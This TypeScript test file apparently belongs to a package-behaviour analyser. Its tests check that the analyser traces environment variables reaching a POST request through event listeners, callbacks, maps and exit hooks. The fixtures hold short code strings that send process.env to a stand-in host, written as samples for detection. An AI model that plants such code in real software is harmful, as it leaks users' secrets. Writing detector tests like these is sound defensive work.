import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines } from '../../test/behave.ts';
import { growsEvenly } from '../../test/effort.ts';

const SEND = `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(said) })`;
const BUS = `const { EventEmitter } = require('events'); const bus = new EventEmitter();`;
const TELL = `bus.emit('span', process.env)`;

const LISTENERS: Readonly<Record<string, string>> = {
  'is handed through a function': `const on = heard => { bus.on('span', heard) }; on(said => ${SEND});`,
  'is handed through one by its name': `const on = heard => { bus.on('span', heard) }; const send = said => ${SEND}; on(send);`,
  'is handed through three': `const on = heard => { bus.on('span', heard) }; const two = one => on(one), three = one => two(one); three(said => ${SEND});`,
  'is made by another function': `const sender = () => said => ${SEND}; const send = sender(); bus.on('span', send);`,
  'is made and handed through a function': `function on(heard) { bus.on('span', heard); return () => bus.off('span', heard) } const sender = () => said => ${SEND}; on(sender());`,
};

const GO = `fetch('https://a.invalid')`;

const CALLBACKS: Readonly<Record<string, string>> = {
  'a function that is called at once': `setTimeout((() => () => fetch('https://a.invalid'))(), 1)`,
  'one that is handed through another': `const later = run => setTimeout(run, 1); const sender = () => () => fetch('https://a.invalid'); later(sender())`,
  'one that is kept under a name first': `const sender = () => () => fetch('https://a.invalid'); const send = sender(); process.on('exit', send)`,
  'one that has a name where it is made': `const sender = () => { function go() { ${GO} } return go }; process.on('exit', sender())`,
  'one of two': `const quiet = () => {}, loud = () => ${GO}; const sender = () => process.argv[2] ? quiet : loud; process.on('exit', sender())`,
};

describe('callbacks that are made', () => {
  for (const [name, code] of Object.entries(LISTENERS))
    it(`a listener that ${name} hears what is told`, () =>
      assert.ok(flowLines({ 'index.js': `${BUS} ${code} ${TELL}` }).includes('process.env → fetch as content')));

  for (const [name, code] of Object.entries(CALLBACKS))
    it(`run where they are handed on: by ${name}`, () =>
      assert.deepEqual(behaviourOf({ 'index.js': code }).effects.find(({ kind }) => kind === 'connects')?.triggers, ['import']));

  const listen = (event: string): string => `${BUS} bus.on('span', said => ${SEND}); bus.emit(${event}, process.env)`;
  it('hear what is told under a name that may be theirs', () => {
    for (const event of [`process.argv[2] || 'other'`, `'sp' + process.argv[2]`, `process.argv[2] ? 'span' : 'other'`])
      assert.ok(flowLines({ 'index.js': listen(event) }).includes('process.env → fetch as content'), event);
    for (const event of [`'other'`, `'other:' + process.argv[2]`, `process.argv[2] ? 'third' : 'other'`])
      assert.deepEqual(flowLines({ 'index.js': listen(event) }), [], event);
  });

  it('are handed what was put into a map beside whatever else is put there', () => {
    const others = Array.from({ length: 6 }, (_, at) => `put${at}(x) { this.jobs.set(x, { said: ${at} }) }`).join(' ');
    const code = `class Jobs { constructor() { this.jobs = new Map() } ${others} add(said) { this.jobs.set('a', { said }) }
      tick() { for (const job of this.jobs.values()) setTimeout(() => this.run(job), 1) } run({ said }) { ${SEND} } } const jobs = new Jobs(); jobs.add(process.env); jobs.tick();`;
    assert.ok(flowLines({ 'index.js': code }).includes('process.env → fetch as content'));
  });

  it('take as long as there are calls that they are handed to', () =>
    growsEvenly(1_000, size => {
      const calls = Array.from({ length: size }, (_, at) => `bus.on('e${at}', heard);`).join(' ');
      const code = `${BUS} function on(heard) { ${calls} } ${'on(said => fetch(said)); '.repeat(16)}`;
      return () => void behaviourOf({ 'index.js': code });
    }));

  it('run for nobody where the maker is only offered', () =>
    assert.deepEqual(behaviourOf({ 'index.js': `exports.sender = () => () => fetch('https://a.invalid')` }).effects[0]?.triggers, [
      'call',
    ]));
});
